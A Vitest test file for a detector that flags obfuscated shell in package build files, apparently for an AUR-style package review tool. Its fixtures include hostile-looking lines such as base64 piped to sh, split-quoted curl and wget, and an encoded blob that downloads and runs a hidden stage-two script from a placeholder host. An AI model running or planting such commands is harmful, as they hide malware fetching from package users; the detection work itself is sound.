import { describe, expect, it } from 'vitest';
import { checkObfuscation, findSplitWord, shellWords } from './check-obfuscation.js';
import { brief, lineOf, riskInput, sha } from './fixtures/helpers.js';
import { PYTHON_PKG, WIDGET_GIT, fancytool, slinkyBin } from './fixtures/packages.js';

const prev = fancytool();

function inPackage(line: string) {
  const cand = fancytool({ packageExtra: [line] });
  return { flags: checkObfuscation(riskInput(cand, prev)), line: lineOf(cand.PKGBUILD, line) };
}

const BLOB =
  'ZWNobyAiaGVsbG8iOyBjdXJsIC1zIGh0dHBzOi8vZXhhbXBsZS5vcmcvc3RhZ2UyLnNoIC1vIC90bXAvLnN0YWdlMjsgY2htb2QgK3ggL3RtcC8uc3RhZ2UyOyAvdG1wLy5zdGFnZTIgJg==';

describe('obfuscation', () => {
  it('flags `echo aGVsbG8= | base64 -d | sh` (high)', () => {
    const { flags, line } = inPackage('echo aGVsbG8= | base64 -d | sh');
    expect(brief(flags)).toEqual([{ check: 'obfuscation', severity: 'high', file: 'PKGBUILD', line }]);
    expect(flags[0]!.reason).toContain('decodes base64/base32 data');
  });

  it("flags `'c''u''r''l'` (high)", () => {
    const { flags, line } = inPackage("'c''u''r''l' -s https://x.y/p -o /tmp/.p");
    expect(brief(flags)).toEqual([{ check: 'obfuscation', severity: 'high', file: 'PKGBUILD', line }]);
    expect(flags[0]!.reason).toBe(
      `PKGBUILD line ${line} spells a word from split quoted fragments (\`'c''u''r''l'\`): \`'c''u''r''l' -s https://x.y/p -o /tmp/.p\`.`,
    );
  });

  it.each([
    'base64 --decode payload.txt > run.sh',
    'python3 -c "import base64; exec(base64.b64decode(\'aGk=\'))"',
    'openssl enc -aes-256-cbc -d -in blob -pass pass:x | bash',
    'xxd -r -p payload.hex > /tmp/x',
    'source /dev/stdin <<< "$data"',
    'echo "hsab | lruc" | rev | sh',
    "printf '\\x63\\x75\\x72\\x6c' > /tmp/c",
    "$'\\x62\\x61\\x73\\x68' -c id",
    '"b""u""n" x evil-package',
    "cu''rl -s https://x.y",
    `echo '${BLOB}' > /tmp/p`,
    `_k=${sha('a')}${sha('b')}`,
    "tr 'A-Za-z' 'N-ZA-Mn-za-m' < p | sh",
  ])('flags `%s` (high)', (cmd) => {
    const { flags, line } = inPackage(cmd);
    expect(brief(flags)).toEqual([{ check: 'obfuscation', severity: 'high', file: 'PKGBUILD', line }]);
  });

  it('does not read comments, even hostile-looking ones, as code (an e-mail address hidden in a comment)', () => {
    const cand = fancytool();
    cand.PKGBUILD = cand.PKGBUILD.replace(
      '# Maintainer: Jane Doe <jane at example dot org>',
      '# Maintainer: Jane Doe <$(echo amFuZUBleGFtcGxlLm9yZw== | base64 -d)>\n# Contributor: Bob <printf \'\\x62\\x6f\\x62\\x40\\x78\\x2e\\x6f\\x72\\x67\'> "b""o""b"',
    );
    expect(checkObfuscation(riskInput(cand, prev))).toEqual([]);
  });

  it('does not flag ordinary shell', () => {
    for (const cmd of [
      'install -Dm644 "$srcdir"/build/"bin" "$pkgdir"/usr/share/"$pkgname"/',
      'sed -i \'s/foo/bar/\' "$srcdir/$pkgname-$pkgver/Makefile"',
      'echo -e "\\033[1;32m==>\\033[0m \\033[1mDone\\033[0m"',
      'printf \'%s\\n\' "$pkgver"',
      'sha256sum -c <<< "abc  file"',
      'base64 -w0 file > file.b64',
      'curl -s https://x.y | sh', // download-and-run reports this one
      "sed -i 's|/bin/sh|/bin/bash|' scripts/run",
      'sed -i "s|#!/usr/bin/env sh|#!/bin/sh|" scripts/run',
      'make check || sh ./fallback.sh',
    ]) {
      expect(inPackage(cmd).flags, cmd).toEqual([]);
    }
  });

  it('ignores long hex inside checksum arrays, but not elsewhere', () => {
    expect(checkObfuscation(riskInput(fancytool({ pkgver: '9.9.9' }), prev))).toEqual([]);
    expect(checkObfuscation(riskInput(PYTHON_PKG))).toEqual([]); // 128-hex b2sums entry
  });

  it('accepts ordinary packages', () => {
    for (const files of [fancytool(), slinkyBin(), WIDGET_GIT, PYTHON_PKG]) expect(checkObfuscation(riskInput(files))).toEqual([]);
  });

  it('scans any new text file', () => {
    const cand = { ...prev, 'helper.sh': `#!/bin/sh\nd=${BLOB}\necho "$d" | base64 -d > /tmp/x\n` };
    expect(brief(checkObfuscation(riskInput(cand, prev)))).toEqual([
      { check: 'obfuscation', severity: 'high', file: 'helper.sh', line: 2 },
      { check: 'obfuscation', severity: 'high', file: 'helper.sh', line: 3 },
    ]);
  });
});

describe('split words', () => {
  it('tokenizes words into quoted and unquoted pieces', () => {
    expect(shellWords(`a 'b c'd "e\\"f" g;h`)).toEqual([['a'], ["'b c'", 'd'], ['"e\\"f"'], ['g'], ['h']]);
  });
  it('finds words glued from fragments', () => {
    expect(findSplitWord(`x=$('w''g''e''t' url)`)).toBe("'w''g''e''t'");
    expect(findSplitWord('cp "$a"/"b"/c d')).toBeNull();
    expect(findSplitWord('--prefix="/usr"')).toBeNull();
  });
});
